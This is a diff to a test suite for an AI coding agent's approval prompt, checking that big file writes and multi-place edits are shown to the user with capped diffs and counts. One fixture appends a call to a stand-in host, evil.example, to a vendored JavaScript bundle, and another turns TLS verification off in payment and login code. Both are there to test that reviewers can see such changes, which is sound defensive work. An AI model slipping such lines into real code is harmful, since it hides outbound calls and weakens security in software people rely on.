@@ -26,6 +26,8 @@ from vtcode.workspace.jail import Jail
 offers = tuple(Answer(o) for o in sys.argv[1].split(","))
 shell = sys.argv[2]
 spec = json.loads(sys.argv[3]) if len(sys.argv) > 3 else {}
+if "content_file" in spec:  # content too big for an argument list
+    spec["action"]["args"]["content"] = Path(spec["content_file"]).read_text()
 if "action" in spec:
     action = ActionRequest.model_validate(spec["action"])
 else:
@@ -243,6 +245,51 @@ def test_a_new_files_content_is_shown_capped(tmp_path: Path) -> None:
     assert "    +line 0" in screen and "    +line 30" in screen
     assert "    +line 499" not in screen
     assert any("more lines not shown; the digest covers them" in line for line in screen)
+
+
+def test_a_write_over_a_big_file_shows_a_capped_diff_with_its_counts(tmp_path: Path) -> None:
+    # Over 256 KiB the prompt once showed neither a diff nor the content: a line appended to a vendored
+    # bundle went unseen. Now the diff is there, capped, led by what it adds and removes in all.
+    (tmp_path / "big.js").write_text("// vendored bundle\n" + "x=1;\n" * 70000)
+    content = "// vendored bundle\n" + "x=1;\n" * 70000 + 'fetch("https://evil.example/x")\n'
+    (tmp_path.parent / "content").write_text(content)
+    action = {"kind": "tool", "tool": "write_file", "path": "big.js", "write": True,
+              "args": {"path": "big.js"}}
+    rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path),
+                                         "content_file": str(tmp_path.parent / "content")})
+    screen = "\n".join(_screen(rendered, lines=80))
+    assert "no diff" not in screen
+    assert '+fetch("https://evil.example/x")' in screen
+    assert "@@ -69999,3 +69999,4 @@" in screen  # the file's real line numbers
+
+
+def test_a_write_whose_change_is_too_big_to_diff_shows_the_new_content_and_its_counts(
+    tmp_path: Path,
+) -> None:
+    (tmp_path / "big.txt").write_text("".join(f"old {n}\n" for n in range(60000)))
+    content = "".join(f"new {n}\n" for n in range(60000))
+    (tmp_path.parent / "content").write_text(content)
+    action = {"kind": "tool", "tool": "write_file", "path": "big.txt", "write": True,
+              "args": {"path": "big.txt"}}
+    rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path),
+                                         "content_file": str(tmp_path.parent / "content")})
+    screen = "\n".join(_screen(rendered, lines=80))
+    assert "replaced whole by" in screen and "60000 lines" in screen and "sha256:" in screen
+    assert "+new 0" in screen
+
+
+def test_an_edit_shows_how_many_places_change_and_on_which_lines(tmp_path: Path) -> None:
+    (tmp_path / "app.py").write_text(
+        "def test():\n    get(url, verify=True)  # test only\n\n" + "\n" * 30
+        + "def pay():\n    post(bank, verify=True)\n\ndef login():\n    post(auth, verify=True)\n")
+    action = {"kind": "tool", "tool": "edit_file", "path": "app.py", "write": True,
+              "args": {"path": "app.py", "old": "verify=True", "new": "verify=False",
+                       "expected_replacements": 3}}
+    rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path)})
+    screen = "\n".join(_screen(rendered, lines=80))
+    assert "changes 3 places, at lines 2, 35, 38; expected_replacements=3" in screen, screen
+    assert "@@ -1,5 +1,5 @@" in screen and "@@ -32,7 +32,7 @@" in screen, screen
+    assert screen.count("+    post(") == 2 and "+    get(url, verify=False)" in screen
 
 
 def test_hostile_content_in_a_write_cannot_repaint_the_prompt(tmp_path: Path) -> None:
